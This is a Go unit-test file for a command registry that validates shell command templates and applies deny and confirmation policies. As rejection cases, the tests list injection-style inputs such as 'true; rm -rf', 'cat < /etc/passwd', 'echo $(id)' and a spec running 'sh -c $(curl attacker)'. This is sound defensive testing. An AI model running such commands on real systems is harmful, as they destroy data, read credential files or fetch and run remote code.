package registry

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/attendd/attendd/pkg/types"
)

func TestValidateTemplate(t *testing.T) {
	valid := []string{
		"brightnessctl set {value}%",
		"loginctl lock-session",
		"/usr/bin/systemctl suspend",
		"pactl set-sink-volume @DEFAULT_SINK@ +{delta}%",
	}
	for _, tpl := range valid {
		assert.NoError(t, ValidateTemplate(tpl), tpl)
	}

	invalid := []string{
		"echo hi | wall",
		"sleep 1 & reboot",
		"true; rm -rf /tmp/x",
		"cat > /tmp/out",
		"cat < /etc/passwd",
		"echo `id`",
		"echo $(id)",
		"echo ${HOME}",
		`echo a\ b`,
		`echo "quoted"`,
		"echo 'quoted'",
		"ls $HOME",
		"",
		"   ",
	}
	for _, tpl := range invalid {
		assert.Error(t, ValidateTemplate(tpl), "template %q must be rejected", tpl)
	}
}

func TestNewSkipsUnsafeAndDuplicate(t *testing.T) {
	specs := []types.CommandSpec{
		{ID: "brightness_set", Template: "brightnessctl set {value}%"},
		{ID: "evil", Template: "sh -c $(curl attacker)"},
		{ID: "brightness_set", Template: "brightnessctl set {value}%"},
		{ID: "", Template: "true"},
		{ID: "lock_screen", Template: "loginctl lock-session"},
	}
	r := New(specs, nil, nil, nil)
	assert.Equal(t, 2, r.Len())

	_, ok := r.Get("evil")
	assert.False(t, ok, "unsafe template must never be loaded")
	_, ok = r.Get("lock_screen")
	assert.True(t, ok)
}

func TestListPreservesFileOrder(t *testing.T) {
	specs := []types.CommandSpec{
		{ID: "b", Template: "true"},
		{ID: "a", Template: "true"},
		{ID: "c", Template: "true"},
	}
	r := New(specs, nil, nil, nil)
	var ids []string
	for _, s := range r.List() {
		ids = append(ids, s.ID)
	}
	assert.Equal(t, []string{"b", "a", "c"}, ids)
}

func TestLoadFromFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "commands.json")
	require.NoError(t, os.WriteFile(path, []byte(`[
		{"id":"volume_up","description":"Increase system volume",
		 "examples":["increase volume"],
		 "parameters":{"delta":"int 1-50"},
		 "shell_command_template":"pactl set-sink-volume @DEFAULT_SINK@ +{delta}%"}
	]`), 0o644))

	r, err := Load(path, nil, nil, nil)
	require.NoError(t, err)
	spec, ok := r.Get("volume_up")
	require.True(t, ok)
	assert.Equal(t, "int 1-50", spec.Parameters["delta"])
}

func TestLoadErrors(t *testing.T) {
	_, err := Load(filepath.Join(t.TempDir(), "missing.json"), nil, nil, nil)
	assert.Error(t, err)

	path := filepath.Join(t.TempDir(), "bad.json")
	require.NoError(t, os.WriteFile(path, []byte("not json"), 0o644))
	_, err = Load(path, nil, nil, nil)
	assert.Error(t, err)
}

func TestPolicyDeny(t *testing.T) {
	pol, err := CompilePolicy(PolicyConfig{Deny: []string{"system_*"}})
	require.NoError(t, err)

	specs := []types.CommandSpec{
		{ID: "system_reboot", Template: "systemctl reboot"},
		{ID: "volume_up", Template: "pactl up"},
	}
	r := New(specs, pol, nil, nil)
	assert.Equal(t, 1, r.Len())
	_, ok := r.Get("system_reboot")
	assert.False(t, ok)
}

func TestPolicyForceConfirmation(t *testing.T) {
	pol, err := CompilePolicy(PolicyConfig{ForceConfirmation: []string{"*_set"}})
	require.NoError(t, err)

	r := New([]types.CommandSpec{
		{ID: "brightness_set", Template: "brightnessctl set {value}%"},
		{ID: "volume_up", Template: "pactl up"},
	}, pol, nil, nil)

	spec, ok := r.Get("brightness_set")
	require.True(t, ok)
	assert.True(t, spec.Dangerous)

	spec, ok = r.Get("volume_up")
	require.True(t, ok)
	assert.False(t, spec.Dangerous)
}

func TestPolicyBadPattern(t *testing.T) {
	_, err := CompilePolicy(PolicyConfig{Deny: []string{"[unclosed"}})
	assert.Error(t, err)
}

func TestNilPolicyAllowsAll(t *testing.T) {
	var p *Policy
	_, denied := p.Denied("anything")
	assert.False(t, denied)
	assert.False(t, p.ForcesConfirmation("anything"))
}

func TestLoadPolicyFromFile(t *testing.T) {
	path := filepath.Join(t.TempDir(), "policy.yaml")
	require.NoError(t, os.WriteFile(path, []byte("deny:\n  - \"debug_*\"\nforce_confirmation:\n  - \"*reboot*\"\n"), 0o644))
	pol, err := LoadPolicy(path)
	require.NoError(t, err)
	_, denied := pol.Denied("debug_dump")
	assert.True(t, denied)
	assert.True(t, pol.ForcesConfirmation("system_reboot"))
}
